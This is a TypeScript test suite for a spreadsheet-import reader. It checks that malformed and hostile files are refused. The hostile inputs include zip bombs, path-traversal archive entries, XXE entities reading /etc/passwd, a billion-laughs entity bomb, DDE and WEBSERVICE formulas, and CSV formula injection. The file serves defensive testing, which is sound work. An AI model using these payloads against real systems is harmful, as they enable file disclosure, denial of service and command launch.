import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import iconv from 'iconv-lite'
import writeExcelFile from 'write-excel-file/node'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { readFile } from '../../src-main/services/ledger/read-file.ts'
import { startProcess, startThread } from '../../src-main/services/ledger/start-reader.ts'
import { columnName, type SampleCell, workbookParts, writeWorkbook } from '../../build/samples/write-workbook.ts'
import { writeZip, type ZipPart } from '../../build/samples/write-zip.ts'
import { good, samples } from './ledger-desk.ts'

let folder = ''
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'))
})
afterAll(() => {
  // Nothing but what the tests themselves put there: no file was unpacked beside or above it.
  expect(readdirSync(folder).every((name) => name.startsWith('given-'))).toBe(true)
  rmSync(folder, { recursive: true })
})

const rows: SampleCell[][] = [['姓名', '矫正类别', '矫正期限起', '矫正期限止'], ['蓝水法', '缓刑', '2026-01-10', '2028-01-09']]
const sheet = { name: '在册', rows }
const head = '<?xml version="1.0" encoding="UTF-8"?>'
const textPart = (name: string, text: string): ZipPart => ({ name, data: Buffer.from(text) })
const withParts = (...more: ZipPart[]): Buffer => writeZip([...workbookParts(sheet), ...more])
const changed = (name: string, change: (text: string) => string): Buffer =>
  writeZip(workbookParts(sheet).map((part) => (part.name === name ? { ...part, data: Buffer.from(change(part.data.toString())) } : part)))
const inSheet = (change: (text: string) => string): Buffer => changed('xl/worksheets/sheet1.xml', change)
const zeros = Buffer.alloc(40 * 1024 * 1024)
const xmlBomb = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`
const big = (count: number): Buffer => writeWorkbook({ name: '在册', rows: [rows[0] ?? [], ...Array.from({ length: count }, (_, index) => [`蓝${index}`, '缓刑', '2026-01-10', '2028-01-09'])] })

let written = 0
async function answerTo(content: Uint8Array): Promise<string> {
  const path = join(folder, `given-${++written}`)
  writeFileSync(path, content)
  const answer = await readFile(readFileSync(path))
  return answer.ok ? 'read' : `${answer.error.code} ${Object.values(answer.error.params).join(' ')}`.trim()
}

const refusals: readonly (readonly [string, () => Uint8Array, string | RegExp])[] = [
  ['[L1] nothing at all', () => Buffer.alloc(0), 'FILE_EMPTY'],
  ['[L1] a CSV of empty lines', () => Buffer.from('\r\n,,,\r\n\r\n'), 'FILE_EMPTY'],
  ['[L1] a workbook without a cell', () => writeWorkbook({ name: '空', rows: [] }), 'FILE_EMPTY'],
  ['[L1] a renamed photo', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF'), Buffer.alloc(400, 7)]), 'FILE_NOT_SPREADSHEET'],
  ['[L1] a PDF', () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), 'FILE_NOT_SPREADSHEET'],
  ['[L1] a letter in plain text', () => Buffer.from('关于开展工作的通知\n各村\n请按时到场\n'), 'FILE_NOT_SPREADSHEET'],
  ['[L1] JSON', () => Buffer.from('[{"姓名":"蓝","a":1},{"b":2}]'), 'FILE_NOT_SPREADSHEET'],
  ['[L1] a Word document', () => writeZip([textPart('[Content_Types].xml', '<Types/>'), textPart('_rels/.rels', '<Relationships/>'), textPart('word/document.xml', '<w/>')]), 'FILE_NOT_SPREADSHEET'],
  ['[L1] an OpenDocument sheet', () => writeZip([textPart('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'), textPart('content.xml', '<x/>')]), 'FILE_OLD_FORMAT'],
  ['[L1] an old .xls', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]), 'FILE_OLD_FORMAT'],
  ['[L1] a web page saved as .xls', () => Buffer.from('<html><table><tr><td>姓名</td></tr></table></html>'), 'FILE_OLD_FORMAT'],
  ['[L1] a workbook with a password', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]), 'FILE_LOCKED'],
  ['[L1] a CSV whose quote never closes', () => Buffer.from('姓名,电话\n"蓝水法,1\n雷建云,2\n'), 'FILE_INCOMPLETE'],
  ['[L1] a workbook cut off in the middle', () => writeWorkbook(sheet).subarray(0, 1200), 'FILE_INCOMPLETE'],
  ['[L1] a sheet cut off in the middle', () => inSheet((text) => text.slice(0, -40)), 'FILE_INCOMPLETE'],
  ['[L1] packed bytes that were altered', () => alter(writeWorkbook(sheet)), /FILE_INCOMPLETE|FILE_HOSTILE/],
  ['[L2] UTF-16', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('姓名\t电话\r\n', 'utf16le')]), 'ENCODING_UNCLEAR'],
  ['[L2] Big5', () => iconv.encode('姓名,電話\r\n藍水法,138\r\n雷建雲,139\r\n監護人聯繫電話,中華民國\r\n', 'big5'), 'ENCODING_UNCLEAR'],
  ['[L2] UTF-8 with one broken byte', () => Buffer.concat([Buffer.from('姓名,电话\r\n蓝水法,138\r\n社区矫正对象台账'), Buffer.from([0xff]), Buffer.from('，雷\r\n')]), 'ENCODING_UNCLEAR'],
  ['[L3] a bomb: 40 MB in 40 kB', () => withParts({ name: 'xl/bomb.xml', data: zeros }), /FILE_HOSTILE 压缩比例异常/],
  ['[L3] a bomb that declares to be small', () => withParts({ name: 'xl/bomb.xml', data: Buffer.from('x'), packed: deflateRawSync(zeros), declaredSize: 1000 }), /FILE_HOSTILE 内部文件的大小与声明不符/],
  ['[L3] a bomb in the very sheet', () => writeZip(workbookParts(sheet).map((part) => (part.name.endsWith('sheet1.xml') ? { ...part, packed: deflateRawSync(Buffer.concat([part.data, zeros])), declaredSize: part.data.length } : part))), /FILE_HOSTILE 内部文件的大小与声明不符/],
  ['[L3] 300 MB in honest pieces', () => withParts(...Array.from({ length: 4 }, (_, index) => ({ name: `xl/media${index}.bin`, data: Buffer.alloc(10), declaredSize: 60 * 1024 * 1024 }))), /FILE_HOSTILE/],
  ['[L3] parts that share the same packed bytes', () => withParts({ name: 'xl/a.xml', data: Buffer.alloc(500, 1) }, { name: 'xl/b.xml', data: Buffer.alloc(500, 1), offset: 30 }), /FILE_HOSTILE 内部文件互相重叠/],
  ['[L3] a name that climbs out', () => withParts(textPart('../../given-outside.txt', 'x')), /FILE_HOSTILE 内部文件名越界/],
  ['[L3] an absolute name', () => withParts(textPart('/etc/cron.d/x', 'x')), /FILE_HOSTILE 内部文件名越界/],
  ['[L3] a drive letter', () => withParts(textPart('C:\\Windows\\x.txt', 'x')), /FILE_HOSTILE 内部文件名越界/],
  ['[L3] the same part twice', () => withParts(textPart('XL/Workbook.xml', '<x/>')), /FILE_HOSTILE 内部有两个同名文件/],
  ['[L3] a ZIP in the ZIP', () => withParts({ name: 'xl/inner.zip', data: writeZip([textPart('a', 'b')]) }), /FILE_HOSTILE 里面还套着/],
  ['[L3] a ZIP in the ZIP under another name', () => withParts({ name: 'xl/media/photo.png', data: writeZip([textPart('a', 'b')]) }), /FILE_HOSTILE 里面还套着/],
  ['[L3] 2 001 parts', () => withParts(...Array.from({ length: 2001 }, (_, index) => textPart(`xl/p${index}.xml`, ''))), /FILE_HOSTILE 内部文件超过/],
  ['[L3] a locked part', () => withParts({ ...textPart('xl/secret.xml', 'x'), flags: 1 }), 'FILE_LOCKED'],
  ['[L4] macros', () => withParts(textPart('xl/vbaProject.bin', 'x')), /FILE_HOSTILE 含有宏程序/],
  ['[L4] a macro workbook under another name', () => changed('[Content_Types].xml', (text) => text.replace('openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'ms-excel.sheet.macroEnabled.main+xml')), /FILE_HOSTILE 含有宏程序/],
  ['[L4] an external link', () => withParts(textPart('xl/externalLinks/externalLink1.xml', '<x/>')), /FILE_HOSTILE 含有指向外部文件的链接/],
  ['[L4] a picture fetched from outside', () => withParts(textPart('xl/worksheets/_rels/sheet1.xml.rels', '<Relationships><Relationship Id="r" Type="x/image" Target="http://example.invalid/a.png" TargetMode="External"/></Relationships>')), /FILE_HOSTILE 含有指向外部文件的链接/],
  ['[L4] a data connection', () => withParts(textPart('xl/connections.xml', '<x/>')), /FILE_HOSTILE 含有外部数据连接/],
  ['[L4] an embedded object', () => withParts(textPart('xl/embeddings/oleObject1.bin', 'x')), /FILE_HOSTILE 嵌入/],
  ['[L4] DDE', () => writeWorkbook({ name: 'x', rows: [...rows, [{ formula: "cmd|'/C calc'!A1", cached: '0' }]] }), /FILE_HOSTILE 含有会启动其他程序的公式/],
  ['[L4] a formula that calls the network', () => writeWorkbook({ name: 'x', rows: [...rows, [{ formula: 'WEBSERVICE("http://example.invalid/"&A2)', cached: '0' }]] }), /FILE_HOSTILE 公式指向外部/],
  ['[L4] a formula into another workbook', () => writeWorkbook({ name: 'x', rows: [...rows, [{ formula: '[1]Sheet1!A1', cached: '0' }]] }), /FILE_HOSTILE 公式指向外部/],
  ['[L4] XXE in the sheet', () => inSheet((text) => text.replace(/^<\?xml[^>]*>/, `${head}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)), /FILE_HOSTILE 含有文档类型定义/],
  ['[L4] a billion laughs in the texts', () => changed('xl/sharedStrings.xml', (text) => text.replace(/^<\?xml[^>]*>/, head + xmlBomb).replace('蓝水法', '&j;')), /FILE_HOSTILE 含有文档类型定义/],
  ['[L4] XXE in the relations', () => changed('_rels/.rels', (text) => text.replace(/^<\?xml[^>]*>/, `${head}<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd">`)), /FILE_HOSTILE 含有文档类型定义/],
  ['[L4] plain XML with a document type', () => Buffer.from('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), /FILE_HOSTILE/],
  ['XML 70 levels deep', () => inSheet((text) => text.replace('<sheetData>', `${'<a>'.repeat(70)}${'</a>'.repeat(70)}<sheetData>`)), /FILE_HOSTILE 内部层次太深/],
  ['201 columns', () => writeWorkbook({ name: 'x', rows: [Array<string>(201).fill('x')] }), /FILE_HOSTILE 列数超过 200/],
  ['a cell beyond the sheet', () => inSheet((text) => text.replace('r="A2"', 'r="XFZ2"')), /FILE_HOSTILE 单元格位置超出/],
  ['a cell of 40 000 characters', () => writeWorkbook({ name: 'x', rows: [...rows, ['长'.repeat(40_000)]] }), /FILE_HOSTILE .*超过 32767 个字/],
  ['a text that is not in the table of texts', () => inSheet((text) => text.replace('<v>0</v>', '<v>999</v>')), 'FILE_INCOMPLETE'],
  ['[L6] 100 000 rows', () => big(100_000), /FILE_TOO_MANY_ROWS 10000\d 5000/],
  ['[L6] 100 000 rows of CSV', () => Buffer.from(`姓名,矫正类别\r\n${'蓝水法,缓刑\r\n'.repeat(100_000)}`), 'FILE_TOO_MANY_ROWS 100001 5000'],
]

it.each(refusals)('%s', async (_, make, expected) => {
  const answer = await answerTo(make())
  if (typeof expected === 'string') expect(answer).toBe(expected)
  else expect(answer).toMatch(expected)
})

it('[L4] a formula in a CSV is marked, not run and not believed', async () => {
  const sheetRead = good(await readFile(Buffer.from('姓名,电话,备注\n=HYPERLINK("http://example.invalid"),"@SUM(1)",+cmd|\' /C calc\'!A0\n-,+86 138,说明\n')))
  expect(sheetRead.rows[1]?.cells.map((cell) => cell?.kind)).toEqual(['formula', 'formula', 'formula'])
  expect(sheetRead.rows[2]?.cells.map((cell) => cell?.kind)).toEqual(['text', 'text', 'text'])
})

it('[L5] a reader that takes too long is killed and the file refused', async () => {
  let stopped = 0
  const slow = (bytes: Uint8Array) => {
    const reader = startProcess(bytes)
    return { lines: reader.lines, stop: () => (stopped++, reader.stop()) }
  }
  expect(await readFile(samples.xlsx, { start: slow, timeMs: 1 })).toEqual({ ok: false, error: { code: 'FILE_HOSTILE', params: { problem: '读取它所用的时间或内存异常' } } })
  expect(stopped).toBe(2)
})

it('[L5] what a reader says is checked: nonsense, a missing end, and a wrong count refuse the file', async () => {
  const talker = (...lines: string[]) => ({
    start: () => ({ lines: (async function* () { yield* lines })(), stop: () => undefined }),
  })
  const headLine = '{"is":"head","encoding":"xlsx","notices":[]}'
  for (const lines of [['hello'], [headLine], [headLine, '{"is":"end","rows":1}'], ['{"is":"end","rows":0}'], [headLine, '{"is":"row","row":1,"cells":[{"kind":"code","text":"x"}]}']])
    expect(await readFile(samples.xlsx, talker(...lines))).toMatchObject({ ok: false, error: { code: 'FILE_HOSTILE' } })
  expect(await readFile(samples.xlsx, talker(headLine, '{"is":"end","rows":0}'))).toMatchObject({ ok: true })
})

it('[L5] a thread reads the same as a process', async () => {
  const [inProcess, inThread] = [await readFile(samples.xlsx), await readFile(samples.xlsx, { start: startThread })]
  expect(good(inThread)).toEqual(good(inProcess))
  expect(await readFile(Buffer.from('%PDF-1.7'), { start: startThread })).toMatchObject({ ok: false, error: { code: 'FILE_NOT_SPREADSHEET' } })
})

it('[L7] other sheets and hidden rows are named', async () => {
  const parts = workbookParts(sheet).map((part) => {
    if (part.name === 'xl/workbook.xml') return { ...part, data: Buffer.from(part.data.toString().replace('<sheets>', '<sheets><sheet name="旧表" sheetId="7" state="hidden" r:id="rId9"/>').replace('</sheets>', '<sheet name="已解除" sheetId="8" r:id="rId8"/></sheets>')) }
    if (part.name.endsWith('sheet1.xml')) return { ...part, data: Buffer.from(part.data.toString().replace('<row r="2"', '<row r="2" hidden="1"')) }
    return part
  })
  const read = good(await readFile(writeZip(parts)))
  expect(read.rows).toHaveLength(2)
  expect(read.notices).toEqual(['文件里有 3 张工作表，只读了第一张“在册”。“旧表”（隐藏）、“已解除”没有读，需要的话请另存成单独的文件再导入。', '有 1 行在表格里被隐藏或筛掉了，也一并读入。'])
})

it('[L7] a merged cell counts for each of its rows, and is marked', async () => {
  const read = good(await readFile(writeWorkbook({ name: 'x', rows: [['姓名', '村'], ['蓝水法', '岭脚村'], ['雷建云', null], ['钟志远', null]], merges: [`${columnName(1)}2:${columnName(1)}4`] })))
  expect(read.rows.map(({ cells }) => cells[1])).toEqual([{ kind: 'text', text: '村' }, { kind: 'text', text: '岭脚村' }, { kind: 'text', text: '岭脚村', merged: true }, { kind: 'text', text: '岭脚村', merged: true }])
})

it('reads what another program writes, with the kind of every cell', async () => {
  const path = join(folder, 'given-foreign.xlsx')
  await writeExcelFile([
    [{ value: '姓名' }, { value: '起' }, { value: '数' }],
    [{ value: '雷 & <蓝>' }, { value: new Date(Date.UTC(2026, 1, 28)), type: Date, format: 'yyyy/mm/dd' }, { value: 331102198711178400, type: Number }],
  ]).toFile(path)
  const read = good(await readFile(readFileSync(path)))
  expect(read.rows[1]?.cells).toEqual([{ kind: 'text', text: '雷 & <蓝>' }, { kind: 'date', text: '2026-02-28' }, { kind: 'number', text: '331102198711178400' }])
})

function alter(bytes: Buffer): Buffer {
  const altered = Buffer.from(bytes)
  const at = altered.indexOf('xl/worksheets/sheet1.xml') + 60
  altered.fill(0x55, at, at + 40)
  return altered
}
